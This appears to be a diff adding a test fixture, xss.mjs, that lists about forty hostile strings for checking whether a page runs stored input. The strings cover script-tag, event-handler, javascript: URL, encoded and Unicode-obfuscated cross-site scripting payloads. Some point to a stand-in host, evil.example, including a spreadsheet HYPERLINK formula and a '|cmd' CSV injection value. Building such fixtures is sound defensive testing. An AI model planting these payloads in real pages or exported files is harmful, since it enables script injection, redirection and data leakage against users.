@@ -1,0 +1,48 @@
+// xss.mjs: texts that somebody might store to see whether a page runs them, or breaks on them. Each
+// has at most 100 bytes, the longest name of a key. Whatever runs sets window.pwned or opens a dialog.
+
+export const HOSTILE = [
+	'<script>alert(1)</script>',
+	'"><script>alert(2)</script>',
+	"'><script>pwned=3</script>",
+	'</script><script>alert(4)</script>',
+	'</title><script>alert(5)</script>',
+	'</textarea><img src=x onerror=alert(6)>',
+	'<img src=x onerror=alert(7)>',
+	'<IMG """><SCRIPT>alert(8)</SCRIPT>">',
+	'<svg onload=alert(9)>',
+	'<svg><script>alert(10)</script></svg>',
+	'<svg><animate onbegin=alert(11) attributeName=x dur=1s>',
+	'<math><a xlink:href="javascript:alert(12)">x</a></math>',
+	'<body onload=alert(13)>',
+	'<details open ontoggle=alert(14)>',
+	'<input autofocus onfocus=alert(15)>',
+	'<iframe srcdoc="<script>parent.pwned=16</script>">',
+	'<a href="javascript:alert(17)">click</a>',
+	'javascript:alert(18)',
+	'data:text/html,<script>alert(19)</script>',
+	'" onmouseover="alert(20)" autofocus onfocus="alert(20)',
+	"' onfocus='alert(21)' autofocus='",
+	'` onfocus=alert(22) `',
+	'<base href="//evil.example/">',
+	'<link rel=stylesheet href=//evil.example/x.css>',
+	'<style>*{background:url(//evil.example/)}</style>',
+	'<meta http-equiv=refresh content="0;url=//evil.example/">',
+	'<form action=//evil.example/><button>x</button>',
+	'{{user.name}} {{{csrf}}} {{> head}} {{#scope}}x{{/scope}}',
+	'${alert(29)} #{alert(29)} <%= 29 %>',
+	'&lt;script&gt;alert(30)&lt;/script&gt; &amp; &#60;b&#62;',
+	'\\u003cscript\\u003ealert(31)\\u003c/script\\u003e',
+	'%3Cscript%3Ealert(32)%3C/script%3E',
+	'＜script＞alert(33)＜/script＞',
+	'\u202e<script>alert(34)</script>\u202c\u200b\u2028\u2029',
+	'\ufeff<scr\u00adipt>alert(35)</scr\u00adipt>',
+	'<!--<img src="--><img src=x onerror=alert(36)//">',
+	']]><script>alert(37)</script>',
+	'null', 'undefined', '[object Object]', '__proto__', 'constructor',
+	'=HYPERLINK("http://evil.example/","x")',
+	'+1+1|cmd', '-2+3', '@SUM(1)',
+]
+
+// As a person reads it: what a browser draws of a text.
+export const asSeen = (text) => text.replace(/[\s\u2028\u2029\u200b\ufeff]+/g, ' ').trim()
